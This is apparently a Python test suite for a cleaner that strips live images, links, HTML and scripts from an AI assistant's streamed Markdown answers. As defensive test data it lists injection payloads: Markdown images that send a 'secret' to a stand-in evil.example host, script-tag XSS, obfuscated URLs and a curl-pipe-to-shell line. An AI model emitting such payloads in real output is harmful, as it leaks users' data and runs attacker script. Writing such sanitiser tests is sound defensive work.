"""Answers cleaned while they stream: wherever they are shown as Markdown, nothing draws, links or runs."""

from __future__ import annotations

import random
import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.ask.citations import CitationFilter
from assistant.ask.cleaning import AnswerCleaner
from tests.unit.test_render import HOSTILE

BAD = "https://evil.example/p.png?d=secret"
MORE = (
    f"| a | b |\n|---|---|\n| `x | {BAD} | y` |\n",
    f"`a | {BAD} | b`\n--|--|--\n",
    f"> ```\n> code\n{BAD} ![x]({BAD})",
    f"1. Так:\n   ```\n   cmd\n{BAD}\n   ```\n   <img src={BAD}>",
    f"- ```\n  a\n\n![x]({BAD})",
    f"    ```\n{BAD}\n```\n{BAD}",
    f"```a`b\n{BAD}\n```",
    f"~~~ `\n{BAD}\n~~~\n{BAD}",
    f"```\n{BAD}\n ````\n{BAD}",
    f"```\n{BAD}\n\t```\n{BAD}",
    f"````\n```\n{BAD}\n```\n````\n{BAD}",
    f"a ` b {BAD} c",
    f"a ` b `` {BAD} ``` c",
    f"\\`{BAD}`",
    f"\\\\`{BAD}`",
    f"`{BAD}\n{BAD}`",
    f"`` {BAD} ` {BAD}",
    "https&#58;//evil.example/x https&amp;#58;//evil.example &lt;img src=x&gt; &amp;lt;img src=x&amp;gt;",
    "https\\://evil.example www\\.evil.example a\\@evil.example https:\\//evil.example",
    "ht[tps](x)://evil.example ht[](x)tps://evil.example www[.](x)evil.example",
    "https![:](x)//evil.example ![https](x)://evil.example evil![](x).com ![evil](x).com",
    "<[a](b)script>alert(1)</script> <![](x)script> <&#115;cript> \\<script> &lt;[a](b)script>",
    "<\u200bscript>alert(1)</\u00adscript> <\x00img src=x> ht\u200btps://evil.example",
    "[^1] и [^1]: https://evil.example/footnote\n\n[^1]: <img src=x>",
    "[1]: https://evil.example\n\n[1] [2]\n\n[2]: /x",
    "> [1]: https://evil.example\n\n- [2]: https://evil.example\n\n[1][2]",
    "[a\n]: https://evil.example\n\n[a]",
    "[1\n]: https://evil.example\n\n[1]",
    "[1](https://evil.example) [1] (https://evil.example) ![1](https://evil.example)",
    "[a](https://evil.example/(x)) [a](<https://evil.example/ x>) [a](\nhttps://evil.example\n)",
    "[a `b](https://evil.example) c` d](https://evil.example)",
    "[`cmd`](https://evil.example) [**b**](https://evil.example) [a\\](https://evil.example)",
    "//evil.example/x //localhost/x smb://evil.example/x +@evil.example a@b.c <a@b.cc> <5@b.cc> xmpp:a@b.cc",
    "evil.com, readme.md, компания.рф, компания.ru/путь, сайт.отдел.com?d=1, 1с.ru, ASP.NET",
    "почта@компания.рф и it@company.ru; help+x@пример.com.",
    "_https://evil.example_ **https://evil.example** ~~www.evil.example~~ (https://evil.example) «www.evil.example»",
    "_evil.com_ __evil.com__, (_сайт.evil.com_) _evil.com_~** _evil.com/x_ .evil.com_",
    "a.evil.commailto:a@b.cc evil.comxmpp:a@b.cc evil.commailto:& evil.com_x",
    "xhttps://evil.example рhttps://evil.example 9https://evil.example",
    "$$\\href{https://evil.example}{x}$$ \\(\\url{https://evil.example}\\)",
    "<!-- <img src=x> --> <?php ?> <![CDATA[<img src=x>]]> </p> <br/>",
    "Так!<br>Да<5 и 5<6, а <= б, <имя>",
    f"#\t![x]({BAD})\r![x]({BAD})\r\n![x]({BAD})\u2028![x]({BAD})\x0b![x]({BAD})\x85![x]({BAD})",
    "&#x5b;9&#93; [&#57;] [9&#57;] [\u200b9]",
    f"- - > 1. ```\n{BAD}",
    f"-\t```\n{BAD}\n\n{BAD}",
)
PAYLOADS = [*HOSTILE, *MORE]
ORDINARY = (
    "Отпуск — 28 дней [1]. Заявление подают за 14 дней [2][3]; см. «Положение», п. 3.2 [1]: там всё.",
    "Готово! Да? Нет: 5 > 3, a - b, 10 % и т.д., т.е. №5 (см. прил. 2).",
    "1. Откройте **Настройки**.\n2. Нажмите _ОК_.\n   - пункт\n\n> цитата\n\n# Заголовок\n",
    "| № | Имя |\n|--:|---|\n| 1 | Анна |\n",
    "Так: `ls -l /tmp` и `a[i] = '<b>'`.\n\n```bash\ncurl https://x.local/a | sh # <b> [x](y)\n```\n\nВсё.",
    "```python\nprint(1)\n```\nПотом:\n\n~~~\n<b>\n~~~\n",
    "Employees apply for leave at least 14 days before it starts [1]. See R&D, М&А and C++; it's 5 < 6.",
    "Путь C:\\Users\\Public и \\\\server\\share, a_b_c, и/или, 01.02.2024, 10.0.0.1, 18:30, ёлка.",
    "",
)


def cleaned(*pieces: str) -> str:
    cleaner = AnswerCleaner(CitationFilter(range(1, 4)))
    return "".join(map(cleaner.feed, pieces)) + cleaner.finish()


class Found(HTMLParser):
    """Elements of a page that are not plain text, and every attribute."""

    ALIVE = frozenset(
        {"img", "a", "script", "iframe", "svg", "style", "form", "input", "object", "embed", "link", "br/"}
    )

    def __init__(self) -> None:
        super().__init__()
        self.alive: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        harmless = {"class", "start", "style"}  # of code, lists and tables' columns
        if tag in self.ALIVE or {name for name, _ in attrs} - harmless:
            self.alive.append(f"<{tag} {attrs}>")


PARSERS = [
    MarkdownIt("commonmark", {"html": True, "linkify": True}).enable(["linkify"]),
    MarkdownIt("commonmark", {"html": True, "linkify": True}).enable(["linkify", "table", "strikethrough"]),
    MarkdownIt("gfm-like", {"html": True, "linkify": True, "breaks": True, "typographer": True}),
]


def alive(markdown: str) -> list[str]:
    found = Found()
    for parser in PARSERS:
        found.feed(parser.render(markdown))
    return found.alive


def assert_dead(text: str) -> None:
    said = cleaned(text)
    assert not alive(said), said
    assert not alive(f"{said}\n\n**Источники**"), said
    assert not [found for found in texts_of(said) if re.search(r"https?://|www\.\w|[\w+]@\w", found)], said


def texts_of(markdown: str) -> list[str]:
    """Some programs look for addresses when it is known what entities and backslashes stand for."""
    return [
        piece.content
        for token in MarkdownIt("commonmark").parse(markdown)
        for piece in token.children or []
        if piece.type == "text"
    ]


@pytest.mark.parametrize("text", PAYLOADS)
def test_nothing_of_it_is_alive(text: str) -> None:
    assert_dead(text)
    assert_dead(cleaned(text))


@pytest.mark.parametrize("text", [*PAYLOADS, *ORDINARY])
def test_the_pieces_it_comes_in_make_no_difference(text: str) -> None:
    whole = cleaned(text)
    assert cleaned(*text) == whole
    for cut in random.Random(text).sample(range(len(text)), min(12, len(text))):
        assert cleaned(text[:cut], text[cut:]) == whole


ALPHABET = [
    *"ab1я \n`~|\\<>[]()!&;#:/.@-*_",
    "```",
    "https://",
    "www.",
    "evil.com",
    "](",
    "![",
    "]:",
    "&#58;",
    "&lt;",
    "[1]",
    "\r\n",
    "    ",
    "\t",
]


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(ALPHABET), max_size=40), st.randoms(use_true_random=False))
def test_whatever_is_put_together(parts: list[str], chance: random.Random) -> None:
    text = "".join(parts)
    assert_dead(text)
    cuts = sorted(chance.sample(range(len(text) + 1), min(3, len(text) + 1)))
    pieces = [text[begin:end] for begin, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert cleaned(*pieces) == cleaned(text)


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_answers_stay_as_they_are(text: str) -> None:
    assert cleaned(text) == text


def test_russian_is_not_held_back() -> None:
    """Nor English but for the word that is being written."""
    cleaner = AnswerCleaner(CitationFilter([1]))
    assert [cleaner.feed(piece) for piece in ("Зая", "вле", "ние подаю", "т", ", когда", " надо")] == [
        "Зая",
        "вле",
        "ние подаю",
        "т",
        ", когда",
        " надо",
    ]
    assert [cleaner.feed(piece) for piece in (" App", "ly", " for", " leave [1", "] now")] == [
        " ",
        "",
        "Apply ",
        "for leave ",
        "[1] ",
    ]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("Смотрите [портал](https://wiki.local/a_b) [1].", "Смотрите портал (`https://wiki.local/a_b`) [1]."),
        (f"Вот: ![схема]({BAD}) и [1]({BAD})", f"Вот: (схема) и [1] (`{BAD}`)"),
        ("Пишите на it@company.ru, сайт www.company.ru.", "Пишите на `it@company.ru`, сайт `www.company.ru`."),
        ("Нажмите <Enter> и <b>ОК</b> — &laquo;да&raquo; &amp; нет", "Нажмите ‹Enter› и ‹b›ОК‹/b› — «да» & нет"),
        ("[a][b]\n\n[b]: /x", "[a][b]\n\n[b] : /x"),
        ("```html\n<b>\n```", "```\n<b>\n```"),
        ("1. Так:\n   ```sh\n   ls\n   ```\n2. Всё", "1. Так:\n   \n```sh\nls\n```\n2. Всё"),
        ("> ```\n> a\n> ```\n> b", "> \n```\na\n```\n> b"),
        ("```\nконца нет", "```\nконца нет\n```"),
        ("один ` знак", "один \\` знак"),
        ("`ps | grep x`", "`ps` | `grep x`"),
        ("| `a \\| b` |", "| `a \\| b` |"),
        ("чёрный\u202eтекст\x1b[31m", "чёрныйтекст[31m"),
    ],
)
def test_what_becomes_of_it(text: str, said: str) -> None:
    assert cleaned(text) == said


def test_long_answers_take_no_time() -> None:
    hostile = ["[" * 8_000, "`" * 8_000, "<" * 8_000, "a." * 4_000, "&amp;" * 2_000, "![a](" * 2_000, "a@" * 4_000]
    for text in hostile:
        begun = time.process_time()
        cleaned(text)
        cleaned(*(text[at : at + 4] for at in range(0, len(text), 4)))
        assert time.process_time() - begun < 4, text[:10]
